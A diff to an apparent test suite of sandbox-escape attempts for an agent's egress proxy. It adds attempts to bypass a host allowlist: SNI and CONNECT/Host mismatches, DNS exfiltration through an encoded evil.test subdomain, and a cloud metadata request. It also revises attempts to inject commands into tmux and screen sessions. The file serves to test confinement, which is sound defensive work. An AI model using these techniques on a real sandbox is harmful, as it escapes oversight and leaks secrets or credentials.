@@ -8,6 +8,8 @@ export interface Attempt {
   readonly succeeded?: (said: string, world: World) => boolean
   /** Who gets through without walls; both, where not said. What bites nobody would show nothing. */
   readonly bites?: readonly Who[]
+  /** What is meant to be let through, so that the others are refused and not merely broken. */
+  readonly gets?: true
 }
 
 const root: readonly Who[] = ['root']
@@ -116,6 +118,64 @@ s.sendto(b'x', ('::1', W['udpPort'])); got(s.recv(100).decode())`,
     code: `sh('ip route add unreachable 203.0.113.77/32 2>&1 && echo GOT && ip route del unreachable 203.0.113.77/32')`,
     succeeded: says('GOT'),
     bites: root,
+  },
+]
+
+/** Where a proxy lets it out to one host and port (`listed.test`, the server for TLS there). */
+const throughTheProxy: readonly Attempt[] = [
+  {
+    name: 'TLS to the host that is listed',
+    code: `ask(tls(reach('127.0.0.1', W['tlsPort'], 'listed.test:%d' % W['tlsPort']), 'listed.test'), 'listed.test')`,
+    succeeded: says('welcome'),
+    bites: ['root', 'plain'],
+    gets: true,
+  },
+  {
+    name: 'TLS for another host of the same server',
+    code: `ask(tls(reach('127.0.0.1', W['tlsPort'], 'listed.test:%d' % W['tlsPort']), 'evil.test'), 'evil.test')`,
+  },
+  {
+    name: 'TLS that names nobody',
+    code: `ask(tls(reach('127.0.0.1', W['tlsPort'], 'listed.test:%d' % W['tlsPort']), None), 'evil.test')`,
+  },
+  {
+    name: 'something else than TLS where TLS is let through',
+    code: `ask(reach('127.0.0.1', W['port'], 'listed.test:%d' % W['tlsPort']), 'evil.test')`,
+  },
+  {
+    name: 'another port of the host that is listed, as of DNS over TCP',
+    code: `ask(reach('127.0.0.1', W['port'], 'listed.test:%d' % W['port']), 'x')`,
+  },
+  {
+    name: 'the same server by its number',
+    code: `ask(reach('127.0.0.1', W['port'], '127.0.0.1:%d' % W['port']), 'x')`,
+  },
+  {
+    name: 'another Host than the one that CONNECT names',
+    code: `
+try: got(socket.create_connection(('127.0.0.1', W['port']), 2).recv(100).decode())
+except OSError:
+    c = socket.create_connection(('127.0.0.1', W['proxy']), 2)
+    c.sendall(('CONNECT listed.test:%d HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n' % (W['tlsPort'], W['port'])).encode()); got(c.recv(4096).decode())`,
+  },
+  {
+    name: 'a plain request whose Host is another',
+    code: `
+import base64
+try: c = socket.create_connection(('127.0.0.1', W['port']), 2)
+except OSError: c = socket.create_connection(('127.0.0.1', W['proxy']), 2)
+s = base64.b64encode(b'agentgate:' + W['proxySecret'].encode()).decode()
+c.sendall(('GET http://listed.test:%d/ HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\nProxy-Authorization: Basic %s\\r\\n\\r\\n' % (W['tlsPort'], W['port'], s)).encode()); got(c.recv(4096).decode('latin1'))`,
+  },
+  {
+    name: 'a name that carries something out, looked up by the proxy',
+    code: `reach('127.0.0.1', W['port'], 'c2VjcmV0.evil.test:443')`,
+    succeeded: (_, world) => world.read(`${world.out}/resolved`).includes('c2VjcmV0'),
+    bites: [],
+  },
+  {
+    name: 'where a cloud gives out identities, through the proxy',
+    code: `ask(reach('169.254.169.254', 80), '169.254.169.254')`,
   },
 ]
 
@@ -331,17 +391,17 @@ os.wait()`,
 const terminals: readonly Attempt[] = [
   {
     name: 'typing into tmux',
-    code: `sh('TMUX= tmux -L %s send-keys "echo typed > %s/tmux" Enter; sleep 1' % (W['tag'], W['out']))`,
+    code: `typed('TMUX= tmux -L %s send-keys "echo typed > %s/tmux" Enter' % (W['tag'], W['out']), W['out'] + '/tmux')`,
     succeeded: (_, world) => world.has(`${world.out}/tmux`),
   },
   {
     name: 'typing into tmux by its socket’s path',
-    code: `sh('TMUX= tmux -S /tmp/tmux-%d/%s send-keys "echo typed > %s/tmux2" Enter; sleep 1' % (W['uid'], W['tag'], W['out']))`,
+    code: `typed('TMUX= tmux -S /tmp/tmux-%d/%s send-keys "echo typed > %s/tmux2" Enter' % (W['uid'], W['tag'], W['out']), W['out'] + '/tmux2')`,
     succeeded: (_, world) => world.has(`${world.out}/tmux2`),
   },
   {
     name: 'typing into screen',
-    code: `sh('screen -S %s -X stuff "echo typed > %s/screen\\n"; sleep 1' % (W['tag'], W['out']))`,
+    code: `typed('screen -S %s -X stuff "echo typed > %s/screen\\n"' % (W['tag'], W['out']), W['out'] + '/screen')`,
     succeeded: (_, world) => world.has(`${world.out}/screen`),
     bites: root,
   },
@@ -702,6 +762,7 @@ os.rename(W['state'], W['state'] + '2'); os.mkdir(W['state']); got('GOT')`,
 
 export const attempts: readonly Attempt[] = [
   ...network,
+  ...throughTheProxy,
   ...files,
   ...environment,
   ...processes,
